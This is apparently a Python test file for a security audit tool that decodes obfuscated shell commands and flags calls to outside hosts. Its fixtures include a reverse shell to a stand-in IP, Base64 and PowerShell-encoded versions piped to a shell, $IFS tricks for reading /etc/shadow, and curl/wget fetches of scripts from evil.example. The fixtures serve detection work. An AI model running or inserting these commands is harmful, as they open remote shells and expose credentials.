"""Command lines: what encodings and quotes hide, and which hosts are outside."""

import time
from base64 import b64encode

import pytest

from ekswatch.audit.commands import END_CHARACTERS, outside_hosts, readings

SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"


def encoded(text: str, encoding: str = "utf-8") -> str:
    return b64encode(text.encode(encoding)).decode()


@pytest.mark.parametrize(
    ("command", "hidden"),
    [
        (f"echo {encoded(SHELL)}|base64 -d|sh", SHELL),
        (f"echo {encoded(SHELL).rstrip('=')}|openssl base64 -d|sh", SHELL),
        (f"pwsh -enc {encoded(SHELL, 'utf-16-le')}", SHELL),
        ("curl%20http%3A%2F%2Fevil.example", "curl http://evil.example"),
        (encoded(SHELL).replace("=", "%3D"), SHELL),
        ("c'u'r\"l\" x", "curl x"),
        ("c\\url x", "curl x"),
        ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
        ("cat$IFS$9/etc/shadow", "cat /etc/shadow"),
    ],
)
def test_one_layer_is_taken_off(command: str, hidden: str) -> None:
    """What is written stays the first reading."""
    read = readings(command)

    assert read[0] == command
    assert hidden in read


@pytest.mark.parametrize(
    "command",
    [
        "ps aux",
        "/usr/local/bin/entrypoint",
        "sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a",
        f"echo {encoded('short')}",
    ],
)
def test_ordinary_words_hide_nothing(command: str) -> None:
    """There is one reading, the command itself."""
    assert readings(command) == (command,)


def test_a_second_layer_stays_on() -> None:
    """One layer of Base64 is decoded, once."""
    assert SHELL not in readings(encoded(encoded(SHELL)))


def test_no_command_has_no_reading() -> None:
    """An absent command reads as nothing."""
    assert readings("") == ()


def test_every_blob_of_a_command_is_decoded() -> None:
    """However many others stand before it."""
    fillers = " ".join(encoded(f"filler number {number}") for number in range(50))
    read = readings(f"{fillers} {encoded(SHELL)}")

    assert any(text.endswith(f"filler number 49\n{SHELL}") for text in read)


@pytest.mark.parametrize(
    ("before", "after", "seen"),
    [
        (END_CHARACTERS - 2, END_CHARACTERS + 1, True),
        (END_CHARACTERS - 1, END_CHARACTERS + 1, False),
        (END_CHARACTERS + 1, END_CHARACTERS - 2, True),
        (END_CHARACTERS + 1, END_CHARACTERS - 1, False),
    ],
)
def test_the_ends_of_a_long_command_are_read(before: int, after: int, seen: bool) -> None:
    """The limit, on each side of each end."""
    command = "-" * before + "id" + "-" * after

    assert any("id" in read for read in readings(command)) is seen


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("curl -s http://203.0.113.9/i.sh", ("203.0.113.9",)),
        ("curl 203.0.113.9/i.sh", ("203.0.113.9",)),
        ("wget evil.example/i", ("evil.example",)),
        ("curl https://user:pw@Evil.example.:8443/a", ("evil.example",)),
        ("curl http://[2001:db8::9]/a", ("2001:db8::9",)),
        ("curl http://3405803785/a", ("203.0.113.9",)),
        ("curl http://0xcb007109/a", ("203.0.113.9",)),
        ("aws s3 cp s3://loot/x .", ("loot",)),
        (SHELL, ("203.0.113.9",)),
        (
            "curl https://storage.evil.example/a https://evil.io/b",
            ("storage.evil.example", "evil.io"),
        ),
        ("curl http://localhost:8080/x", ()),
        ("curl http://127.0.0.1/x", ()),
        ("curl http://[::1]:80/x", ()),
        ("curl 10.0.3.4:9090/x", ()),
        ("curl -k https://kubernetes.default.svc/api", ()),
        ("curl http://orders.shop.svc.cluster.local/x", ()),
        ("curl http://orders.payments:8080/x", ()),
        ("curl http://orders/x", ()),
        ("curl https://AB12.gr7.eu-west-1.eks.amazonaws.com/api", ()),
        ("curl https://api.example.com/healthz", ()),
        ("curl https://oidc.example.com/.well-known/openid-configuration", ()),
        ("echo > /dev/tcp/127.0.0.1/5432", ()),
        ("echo > /dev/tcp/postgres/5432", ()),
        ("cat /etc/app/settings.yaml", ()),
        ("python script.py --version 1.2.3", ()),
        ("", ()),
    ],
)
def test_hosts_outside(command: str, hosts: tuple[str, ...]) -> None:
    """Loopback, private and cluster-internal targets and health checks are inside."""
    assert outside_hosts([command]) == hosts


@pytest.mark.parametrize(
    "piece", ["http://", "a.b.", "1.2.3.", "x@", "a-", "/dev/tcp/", "QUJD", "%25", "$IFS", "\udc80"]
)
def test_no_text_makes_reading_slow(piece: str) -> None:
    """Whoever types the command chooses the text."""
    command = piece * END_CHARACTERS
    started = time.perf_counter()
    outside_hosts(readings(command))

    assert time.perf_counter() - started < 2
